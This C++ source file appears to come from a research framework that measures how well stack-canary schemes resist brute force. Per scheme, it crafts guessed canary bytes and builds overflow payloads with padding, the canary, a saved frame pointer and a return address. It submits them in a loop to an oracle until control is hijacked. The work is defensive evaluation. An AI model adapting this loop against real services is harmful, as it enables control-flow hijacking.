#include "attack/brute_force.hpp"

#include <stdexcept>

#include "core/canary.hpp"
#include "util/bytes.hpp"

namespace pssp::attack {

std::vector<std::uint8_t> craft_canary_bytes(core::scheme_kind kind,
                                             std::uint64_t guessed_c,
                                             crypto::xoshiro256& rng,
                                             std::uint32_t dcr_offset) {
    // The canary slot words, lowest address first.
    std::uint64_t words[2];
    std::size_t count = 0;
    auto push64 = [&](std::uint64_t v) { words[count++] = v; };

    switch (kind) {
        case core::scheme_kind::ssp:
        case core::scheme_kind::raf_ssp:
        case core::scheme_kind::dynaguard:
            push64(guessed_c);  // the stack canary IS C
            break;
        case core::scheme_kind::dcr:
            // High half from the guess, low half the (public) link offset.
            push64((guessed_c & 0xffffffff00000000ull) | dcr_offset);
            break;
        case core::scheme_kind::p_ssp:
        case core::scheme_kind::p_ssp_nt: {
            // Any random split consistent with the guess (Section III-C-1):
            // C1 at the lower address, C0 above it.
            const std::uint64_t c0 = rng();
            push64(c0 ^ guessed_c);  // C1 slot (rbp-16)
            push64(c0);              // C0 slot (rbp-8)
            break;
        }
        case core::scheme_kind::p_ssp32: {
            const auto c0 = static_cast<std::uint32_t>(rng());
            const auto c1 = c0 ^ static_cast<std::uint32_t>(guessed_c);
            push64(std::uint64_t{c0} | (std::uint64_t{c1} << 32));
            break;
        }
        case core::scheme_kind::p_ssp_gb:
            // The attacker cannot reach the global buffer; its only move is
            // to guess the *stack* word C0 directly.
            push64(guessed_c);
            break;
        default:
            throw std::invalid_argument{
                "craft_canary_bytes: no byte-crafting model for scheme " +
                core::to_string(kind)};
    }
    std::vector<std::uint8_t> bytes(8 * count);
    for (std::size_t i = 0; i < count; ++i)
        util::store_le64(std::span{bytes}.subspan(8 * i, 8), words[i]);
    return bytes;
}

brute_force_result brute_force::run(std::uint64_t ret_target, std::uint64_t saved_rbp) {
    brute_force_result result;
    if (config_.unknown_bits == 0 || config_.unknown_bits > 63)
        throw std::invalid_argument{"brute_force: unknown_bits must be in [1,63]"};
    const std::uint64_t mask = (std::uint64_t{1} << config_.unknown_bits) - 1;

    while (result.trials < config_.max_trials) {
        const std::uint64_t guess =
            (config_.true_canary_hint & ~mask) | (rng_() & mask);
        std::vector<std::uint8_t> payload(config_.prefix_bytes, 'A');
        const auto canary = craft_canary_bytes(kind_, guess, rng_, config_.dcr_offset);
        payload.insert(payload.end(), canary.begin(), canary.end());
        std::uint8_t w[8];
        util::store_le64(w, saved_rbp);
        payload.insert(payload.end(), w, w + 8);
        util::store_le64(w, ret_target);
        payload.insert(payload.end(), w, w + 8);

        const auto r = oracle_.serve(payload);
        ++result.trials;
        if (r.outcome == proc::worker_outcome::hijacked) {
            result.hijacked = true;
            break;
        }
        if (r.outcome == proc::worker_outcome::crashed_canary)
            ++result.canary_crashes;
    }
    return result;
}

}  // namespace pssp::attack
